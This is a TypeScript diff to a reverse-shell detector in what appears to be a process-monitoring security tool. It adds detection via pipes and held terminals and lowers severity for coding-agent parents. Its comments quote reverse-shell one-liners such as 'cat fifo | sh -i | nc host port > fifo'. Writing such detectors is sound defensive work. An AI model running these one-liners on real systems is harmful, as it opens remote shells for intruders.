@@ -4,23 +4,44 @@ import type { Detector, Hit } from './detector.ts';
 import { hostOf } from './host-of.ts';
 import type { Pipes } from './pipes.ts';
 import { isInteractive, readsProgram } from './program.ts';
+import type { Sources } from './sources.ts';
 
-/** A shell or interpreter that takes its commands from the network: its standard input is a socket of IPv4 or IPv6, or pipes lead there and back. */
-export function reverseShell(pipes: Pipes): Detector {
-  const hosts = new WeakMap<ProcessImage, string>();
+/** A shell or interpreter that takes its commands from the network: by a socket, by pipes that lead there and back, or by a terminal that such a process holds. */
+export function reverseShell(pipes: Pipes, sources: Sources): Detector {
   return {
-    executed({ image }) {
-      if (image.stdin.kind !== 'network' || !readsProgram(image)) return null;
-      return hitOf(hostAbove(image, hosts) ?? 'a host that connected to it');
+    executed(node) {
+      const { image } = node;
+      if (!readsProgram(image)) return null;
+      if (isOnSocket(image)) {
+        const source = sources.above(image);
+        return hitOf(source === null ? 'a host that connected to it' : `${source.host}:${source.port}`);
+      }
+      const held = sources.of(image.parent);
+      return held !== null && isOnTerminalOf(image, image.parent) ? heldHit(node, `${held.host}:${held.port}`) : null;
     },
     connected(event, node, origin) {
       if (event.transport !== 'tcp') return null;
-      const host = `${hostOf(event, origin)}:${event.port}`;
-      hosts.set(node.image, host);
       const shell = pipes.writer(node.image.stdin);
-      return shell !== null && isFedByPipe(shell) ? { ...hitOf(host), severity: 'High', by: shell } : null;
+      if (shell === null || !isFedByPipe(shell)) return null;
+      return { ...hitOf(`${hostOf(event, origin)}:${event.port}`), severity: 'High', by: shell };
     },
   };
+}
+
+/** Its input is a socket, or what it says goes into one while something else passes its input on (`cat <&3 | sh >&3`). */
+function isOnSocket({ stdin, stdout }: ProcessImage): boolean {
+  return stdin.kind === 'network' || (stdin.kind === 'pipe' && stdout.kind === 'network');
+}
+
+/** A terminal, not /dev/null, is for both ways; the one before which the parent sits is not the parent's own making. */
+function isOnTerminalOf({ stdin, stdout }: ProcessImage, parent: ProcessImage | null): boolean {
+  const isTerminal = stdin.kind === 'device' && stdout.kind === 'device' && stdin.file === stdout.file;
+  return isTerminal && parent !== null && parent.stdin.file !== stdin.file;
+}
+
+/** Coding agents keep terminals for their commands, and speak with their model. */
+function heldHit({ parent }: ProcessNode, host: string): Hit {
+  return { ...hitOf(host), severity: parent?.agent?.isAgent === true ? 'Low' : 'High' };
 }
 
 /** `cat fifo | sh -i | nc host port > fifo` */
@@ -30,13 +51,4 @@ function isFedByPipe({ image }: ProcessNode): boolean {
 
 function hitOf(host: string): Hit {
   return { rule: 'reverse-shell', subject: { kind: 'host', name: host } };
-}
-
-/** Where the process went before it became a shell, or the one that started it. */
-function hostAbove(image: ProcessImage, hosts: WeakMap<ProcessImage, string>): string | null {
-  for (let at = image.parent; at !== null; at = at.parent) {
-    const host = hosts.get(at);
-    if (host !== undefined) return host;
-  }
-  return null;
 }
